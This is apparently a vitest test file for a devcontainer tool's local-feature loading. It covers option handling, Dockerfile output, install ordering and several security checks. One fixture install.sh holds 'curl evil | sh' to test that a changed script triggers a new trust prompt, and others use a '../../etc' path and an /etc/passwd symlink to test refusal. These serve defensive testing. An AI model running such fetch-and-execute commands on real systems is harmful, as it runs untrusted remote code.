import { mkdir, mkdtemp, rm, symlink, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { afterEach, describe, expect, it } from 'vitest';
import { loadDevcontainer } from './devcontainer-config';
import { featuresDockerfile, optionEnvName, orderLocalFeatures, readLocalFeatures, type LocalFeature } from './local-features';

const dirs: string[] = [];
afterEach(async () => {
  for (const d of dirs.splice(0)) await rm(d, { recursive: true, force: true });
});

async function project(files: Record<string, string>): Promise<string> {
  const dir = await mkdtemp(path.join(tmpdir(), 'airlock-features-'));
  dirs.push(dir);
  for (const [rel, content] of Object.entries(files)) {
    await mkdir(path.dirname(path.join(dir, rel)), { recursive: true });
    await writeFile(path.join(dir, rel), content);
  }
  return dir;
}

const FILES = {
  '.devcontainer/devcontainer.json': JSON.stringify({ image: 'debian:bookworm-slim', features: { './tool': { 'install-docs': true } } }),
  '.devcontainer/tool/devcontainer-feature.json': '// a feature\n{ "id": "tool", "options": { "version": { "default": "1.2" }, "install-docs": { "default": false } }, "containerEnv": { "TOOL_HOME": "/opt/tool" } }',
  '.devcontainer/tool/install.sh': '#!/bin/sh\necho installing "$VERSION"\n',
};

describe('local devcontainer features (docs/architecture.md §16)', () => {
  it("reads a feature's files, options (user's over defaults, the spec's variable names) and containerEnv", async () => {
    const dir = await project(FILES);
    const cfg = await loadDevcontainer(dir, '.devcontainer/devcontainer.json', { env: process.env });
    const [f] = await readLocalFeatures(dir, cfg);
    expect(f?.dir).toBe('.devcontainer/tool');
    expect(Object.keys(f?.files ?? {}).sort()).toEqual(['devcontainer-feature.json', 'install.sh']);
    expect(f?.env).toEqual({ VERSION: '1.2', INSTALL_DOCS: 'true' });
    expect(f?.containerEnv).toEqual({ TOOL_HOME: '/opt/tool' });
    const df = featuresDockerfile('base:1', f ? [f] : []);
    expect(df).toContain('FROM base:1\nUSER 0:0\nCOPY payload/f0/ /tmp/airlock-feature-0/');
    expect(df).toContain("env VERSION='1.2' INSTALL_DOCS='true' _REMOTE_USER='root'");
    expect(df).toContain('ENV TOOL_HOME="/opt/tool"');
    expect(optionEnvName('9-lives.x')).toBe('_LIVES_X');
  });

  it("is part of what trust is given to: a changed install.sh asks again", async () => {
    const a = await loadDevcontainer(await project(FILES), '.devcontainer/devcontainer.json', { env: process.env });
    const b = await loadDevcontainer(await project({ ...FILES, '.devcontainer/tool/install.sh': '#!/bin/sh\ncurl evil | sh\n' }), '.devcontainer/devcontainer.json', { env: process.env });
    expect(a.contentHash).not.toBe(b.contentHash);
  });

  it('refuses a feature outside the project, a symlink in it, or one without install.sh', async () => {
    const outside = await project({ '.devcontainer.json': JSON.stringify({ image: 'x', features: { '../../etc': {} } }) });
    await expect(loadDevcontainer(outside, '.devcontainer.json', { env: process.env })).rejects.toThrow(/feature '\.\.\/\.\.\/etc' points outside the project/);
    const noInstall = await project({ '.devcontainer.json': JSON.stringify({ image: 'x', features: { './t': {} } }), 't/devcontainer-feature.json': '{}' });
    await expect(loadDevcontainer(noInstall, '.devcontainer.json', { env: process.env })).rejects.toThrow(/feature '\.\/t' has no install\.sh/);
    const linked = await project({ '.devcontainer.json': JSON.stringify({ image: 'x', features: { './t': {} } }), 't/devcontainer-feature.json': '{}', 't/install.sh': 'true\n' });
    await symlink('/etc/passwd', path.join(linked, 't/passwd'));
    await expect(loadDevcontainer(linked, '.devcontainer.json', { env: process.env })).rejects.toThrow(/symbolic link \(passwd\)/);
  });

  describe('install order: installsAfter and dependsOn', () => {
    const feature = (id: string, o: { metaId?: string; installsAfter?: string[]; dependsOn?: string[] } = {}): LocalFeature => ({
      id,
      dir: `.devcontainer/${id.replace(/^\.\//, '')}`,
      files: {},
      env: {},
      lifecycle: {},
      containerEnv: {},
      refused: {},
      installsAfter: o.installsAfter ?? [],
      dependsOn: o.dependsOn ?? [],
      ...(o.metaId ? { metaId: o.metaId } : {}),
    });
    const ids = (fs: LocalFeature[]) => fs.map((f) => f.id);

    it('keeps the order written when nothing is named', () => {
      expect(ids(orderLocalFeatures([feature('./c'), feature('./a'), feature('./b')], 'dc.json'))).toEqual(['./c', './a', './b']);
    });

    it('puts a feature after those it names, by key, folder name or metadata id; the rest keep their order', () => {
      const fs = [
        feature('./app', { installsAfter: ['./runtime'] }),
        feature('./lint'),
        feature('./runtime', { dependsOn: ['toolchain-id'] }),
        feature('./tc', { metaId: 'toolchain-id' }),
      ];
      expect(ids(orderLocalFeatures(fs, 'dc.json'))).toEqual(['./lint', './tc', './runtime', './app']);
      expect(ids(orderLocalFeatures([feature('./b', { installsAfter: ['A'] }), feature('./a')], 'dc.json'))).toEqual(['./a', './b']);
    });

    it('ignores installsAfter naming a feature the configuration does not have (a published id with its version too)', () => {
      const fs = [feature('./b', { installsAfter: ['ghcr.io/devcontainers/features/common-utils:2', './missing'] }), feature('./a', { installsAfter: ['./b'] })];
      expect(ids(orderLocalFeatures(fs, 'dc.json'))).toEqual(['./b', './a']);
    });

    it('refuses dependsOn naming a feature it does not have, naming both', () => {
      expect(() => orderLocalFeatures([feature('./a', { dependsOn: ['ghcr.io/devcontainers/features/node:1'] })], '.devcontainer/devcontainer.json')).toThrow(
        /\.devcontainer\/devcontainer\.json: feature '\.\/a' depends on 'ghcr\.io\/devcontainers\/features\/node:1', which is not one of its local features/,
      );
    });

    it('refuses a cycle, naming the features in it', () => {
      const fs = [feature('./free'), feature('./a', { installsAfter: ['./c'] }), feature('./b', { dependsOn: ['./a'] }), feature('./c', { installsAfter: ['b'] })];
      let err: unknown;
      try {
        orderLocalFeatures(fs, 'dc.json');
      } catch (e) {
        err = e;
      }
      expect(err).toMatchObject({ kind: 'INVALID_INPUT' });
      expect((err as Error).message).toMatch(/features '\.\/a' → '\.\/c' → '\.\/b' → '\.\/a' name each other in installsAfter\/dependsOn/);
      // A feature naming itself is no cycle.
      expect(ids(orderLocalFeatures([feature('./s', { installsAfter: ['./s'] })], 'dc.json'))).toEqual(['./s']);
    });

    it("reads installsAfter, dependsOn and the id from each devcontainer-feature.json when the configuration is loaded", async () => {
      const dir = await project({
        '.devcontainer/devcontainer.json': JSON.stringify({ image: 'x', features: { './second': {}, './first': {} } }),
        '.devcontainer/second/devcontainer-feature.json': '{ "id": "second", "installsAfter": ["first-tool"], "dependsOn": {} }',
        '.devcontainer/second/install.sh': 'true\n',
        '.devcontainer/first/devcontainer-feature.json': '{ "id": "first-tool" }',
        '.devcontainer/first/install.sh': 'true\n',
      });
      const cfg = await loadDevcontainer(dir, '.devcontainer/devcontainer.json', { env: process.env });
      expect(ids(await readLocalFeatures(dir, cfg))).toEqual(['./first', './second']);
      const cyclic = await project({
        '.devcontainer/devcontainer.json': JSON.stringify({ image: 'x', features: { './x': {}, './y': {} } }),
        '.devcontainer/x/devcontainer-feature.json': '{ "installsAfter": ["./y"] }',
        '.devcontainer/x/install.sh': 'true\n',
        '.devcontainer/y/devcontainer-feature.json': '{ "dependsOn": { "./x": {} } }',
        '.devcontainer/y/install.sh': 'true\n',
      });
      await expect(loadDevcontainer(cyclic, '.devcontainer/devcontainer.json', { env: process.env })).rejects.toThrow(/features '\.\/x' → '\.\/y' → '\.\/x'/);
    });
  });
});
